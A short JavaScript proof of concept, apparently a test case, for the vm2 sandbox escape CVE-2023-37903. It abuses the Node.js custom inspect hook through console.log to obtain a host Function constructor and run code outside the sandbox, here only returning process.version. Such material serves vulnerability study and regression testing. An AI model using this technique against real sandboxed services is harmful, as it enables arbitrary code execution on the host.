// console.log calls the inspect hook with the options of the runtime.
// Source: vm2, CVE-2023-37903.
let found;
console.log({ [Symbol.for("nodejs.util.inspect.custom")](depth, options, inspect) { found = inspect; return "" } });
return found.constructor("return process.version")()
